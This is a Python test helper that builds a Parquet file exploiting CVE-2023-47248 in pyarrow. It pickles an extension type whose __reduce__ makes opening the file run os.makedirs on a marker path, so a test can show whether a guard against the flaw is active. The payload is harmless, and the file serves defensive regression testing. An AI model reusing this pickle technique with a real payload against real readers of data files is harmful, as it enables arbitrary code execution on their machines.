"""The CVE-2023-47248 exploit, for tests: a Parquet file whose schema carries a pickled Arrow
extension type that, once unpickled, creates a marker folder.

pyarrow's advisory (https://github.com/advisories/GHSA-5wvp-7f3h-6wmm, fixed in pyarrow 14.0.1;
pyarrow_hotfix for older ones): ``pa.PyExtensionType`` pickles its instance into the file's
``ARROW:schema``, and pyarrow < 14.0.1 unpickles whatever is there when it opens the file. The
file is written by a fresh interpreter with plain pyarrow, so the pytest process (which may have
armed pyarrow_hotfix) never handles it; writing runs the payload once, and that marker is
removed before the file is handed back.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
_CRAFT = r"""
import os, sys
import pyarrow as pa
import pyarrow.parquet as pq

path, marker, base = sys.argv[1], sys.argv[2], sys.argv[3]


class Payload(pa.PyExtensionType):
    def __init__(self):
        super().__init__(pa.int64())

    def __reduce__(self):  # what pickle stores: unpickling calls os.makedirs(marker)
        return os.makedirs, (marker,)


table = pq.read_table(base) if base else pa.table({"x": [1]})
storage = pa.array(range(table.num_rows), pa.int64())
table = table.append_column("payload", pa.ExtensionArray.from_storage(Payload(), storage))
pq.write_table(table, path)
"""


def write_exploit(path: str | os.PathLike[str], marker: str | os.PathLike[str],
                  base: str | os.PathLike[str] | None = None) -> Path:
    """Write the exploit to ``path``: the rows of the (trusted) Parquet file ``base``, if
    given, plus a ``payload`` column of the pickled type; reading it creates ``marker``."""
    path, marker = Path(path), Path(marker)
    fresh_python(["-c", _CRAFT, str(path), str(marker), str(base or "")], check=True)
    shutil.rmtree(marker, ignore_errors=True)  # made while writing; reading must make it again
    return path


def fresh_python(args: list[str], *, check: bool = False, cwd: Path = ROOT,
                 timeout: float = 120, **env: str) -> subprocess.CompletedProcess[str]:
    """``python ARGS`` in a new interpreter at the repository root: nothing pytest imported or
    armed is there, so a missing guard shows. ``env`` adds variables."""
    environment = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    environment.update(env)
    return subprocess.run([sys.executable, *args], cwd=cwd, env=environment, check=check,
                          capture_output=True, text=True, timeout=timeout)
